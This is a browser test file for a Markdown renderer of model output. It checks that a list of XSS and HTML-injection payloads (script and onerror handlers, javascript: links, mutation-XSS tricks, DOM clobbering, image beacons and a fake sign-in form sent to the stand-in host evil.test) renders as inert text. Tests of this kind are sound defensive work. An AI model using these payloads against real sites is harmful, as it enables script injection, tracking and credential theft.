/** Output of a model that tries to run code, to load something, or to break the page. */
import { beforeAll, describe, expect, it } from "vitest"
import { present } from "../clients/present.ts"
import { chromium } from "../support/browser.ts"
import { type ConsolePage, expectClean, useBrowser } from "../support/consolePage.ts"
import { origin, serveMarkdown, show } from "./markdownPage.ts"

/** Each would run `pwned` or call another host if it became HTML. */
const attacks: ReadonlyArray<readonly [string, string]> = [
  ["a script", "<script>pwned()</script>"],
  ["a script in a paragraph", "Hi <script>pwned()</script> there"],
  ["svg onload", "<svg onload=pwned()>"],
  ["svg with a script", "<svg><script>pwned()</script></svg>"],
  ["an image that fails", "<img src=x onerror=pwned()>"],
  ["an image of another host", "![x](https://evil.test/beacon.png)"],
  ["an image by reference", "![x][1]\n\n[1]: https://evil.test/beacon.png"],
  ["a link to javascript", "[click](javascript:pwned())"],
  ["a link to javascript by references", "[click](&#106;avascript:pwned())"],
  ["a link with a tab in its scheme", "[click](java\tscript:pwned())"],
  ["a link to data", "[click](data:text/html,<script>pwned()</script>)"],
  ["an autolink to javascript", "<javascript:pwned()>"],
  ["base", '<base href="https://evil.test/">'],
  ["refresh", '<meta http-equiv="refresh" content="0;url=https://evil.test/">'],
  ["dns-prefetch", '<link rel="dns-prefetch" href="//evil.test"><link rel=preconnect href="//evil.test">'],
  ["a style", "<style>body{display:none}@import url(https://evil.test/x.css)</style>"],
  ["a style attribute", '<div style="position:fixed;inset:0;background:url(https://evil.test/x)">x</div>'],
  ["a form", '<form action="https://evil.test"><input name=token><button>Sign in</button></form>'],
  ["an iframe", '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>'],
  ["an object", '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x">'],
  ["a video", '<video src="https://evil.test/x.mp4" autoplay></video>'],
  ["clobbering", '<img name=body><form id="root"><input id=attributes></form><a id=show name=show>'],
  [
    "mutation by math",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  ],
  ["mutation by noscript", '<noscript><p title="</noscript><img src=x onerror=pwned()>">'],
  ["mutation by a template", "<template><img src=x onerror=pwned()></template>"],
  ["mutation by foreignObject", '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">'],
  [
    "mutation by a form in math",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
  ],
  ["an unclosed comment", "<!--><img src=x onerror=pwned()>-->"],
  ["a processing instruction", "<?xml version=1 ?><img src=x onerror=pwned()>"],
  ["code with a closing tag", "```html\n</code></pre><img src=x onerror=pwned()>\n```"],
  ["an info string with markup", '```"><img/src=x/onerror=pwned()>\nx\n```'],
  [
    "a table with markup",
    "| <img src=x onerror=pwned()> | b |\n| --- | --- |\n| [c](javascript:pwned()) | d |",
  ],
  ["a title with markup", '[x](https://example.org "\\"><img src=x onerror=pwned()>")'],
]

describe.skipIf(!present(chromium, "scripts/setup-tests"))("Markdown of a model", { timeout: 90_000 }, () => {
  const browser = useBrowser()
  let tab: ConsolePage
  beforeAll(async () => {
    tab = await browser.open({ url: "about:blank" })
    await serveMarkdown(tab.page)
    await tab.page.evaluate("globalThis.pwned = () => { globalThis.isPwned = true }")
  }, 60_000)

  it.each(attacks)("shows %s as text, runs nothing and loads nothing", async (_, text) => {
    for (const live of [true, false]) {
      await show(tab.page, `Before\n\n${text}\n\nAfter`, live)
      // One turn of the page's loop: an element that was made would have begun to load.
      await tab.page.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
    }
    const root = tab.page.locator("#root")
    expect(await root.innerText()).toMatch(/^Before[\s\S]*After$/)
    const made =
      "script, svg, img, iframe, object, embed, video, form, input, style, link, base, meta, math, template"
    expect(await root.locator(made).count()).toBe(0)
    expect(await root.locator("[style], [id], [name], [onload], [onerror]").count()).toBe(0)
    for (const link of await root.locator("a").all()) {
      expect(await link.getAttribute("href")).toMatch(/^(?:https?|mailto):/)
      expect(await link.getAttribute("rel")).toBe("noopener noreferrer")
      expect(await link.getAttribute("target")).toBe("_blank")
    }
    expect(await tab.page.evaluate("globalThis.isPwned")).toBeUndefined()
    expect(new URL(tab.page.url()).origin).toBe(origin)
    expect(tab.foreign.filter((url) => !url.startsWith(origin))).toEqual([])
    expect(tab.complaints).toEqual([])
  })

  it("draws the elements of GFM, with colours by class alone", async () => {
    await show(
      tab.page,
      "# T\n\n**b** *e* ~~d~~ `c` [l](https://example.org) <https://example.org/a>\n\n- [x] done\n- [ ] open\n\n| a | b |\n| --- | --: |\n| 1 | 2 |\n\n> q\n\n1. one\n\n```python\ndef f(): return 1\n```\n\n---\n",
    )
    const root = tab.page.locator("#root")
    for (const element of ["h3", "strong", "em", "del", "ul", "ol", "blockquote", "hr", "table", "pre"])
      expect([element, await root.locator(element).count()]).toEqual([element, 1])
    expect(await root.getByRole("img").count()).toBe(2)
    expect(await root.getByRole("columnheader").allTextContents()).toEqual(["a", "b"])
    await root.locator(".hl-keyword").getByText("def").waitFor()
    expect(tab.complaints).toEqual([])
  })

  it("colours code of known languages alone, and keeps every character", async () => {
    const code = 'const a: string = "x"\n\n/* two\nlines */\nexport { a }'
    for (const [language, isColoured] of [
      ["typescript", true],
      ["klingon", false],
      ["__proto__", false],
    ] as const) {
      await show(tab.page, `\`\`\`${language}\n${code}\n\`\`\``)
      const pre = tab.page.locator("#root pre")
      if (isColoured) await pre.locator(".hl-string").getByText('"x"').waitFor()
      expect(await pre.textContent()).toBe(code)
      expect((await pre.locator("[class^=hl-]").count()) > 0).toBe(isColoured)
    }
    expect(tab.complaints).toEqual([])
  })

  it("changes only the last block while a text grows", async () => {
    await show(tab.page, "First\n\nSec", true)
    await tab.page.evaluate("globalThis.first = document.querySelector('#root p')")
    await tab.page.evaluate(`{
      globalThis.changed = []
      new MutationObserver((all) => changed.push(...all.map(({ target }) => target.textContent)))
        .observe(document.querySelector("#root"), { subtree: true, childList: true, characterData: true })
    }`)
    await show(tab.page, "First\n\nSecond", true)
    expect(await tab.page.evaluate("globalThis.first === document.querySelector('#root p')")).toBe(true)
    expect(await tab.page.evaluate("new Promise((done) => setTimeout(() => done(changed)))")).toEqual([
      "Second",
    ])
    expectClean({ ...tab, foreign: [] })
  })
})
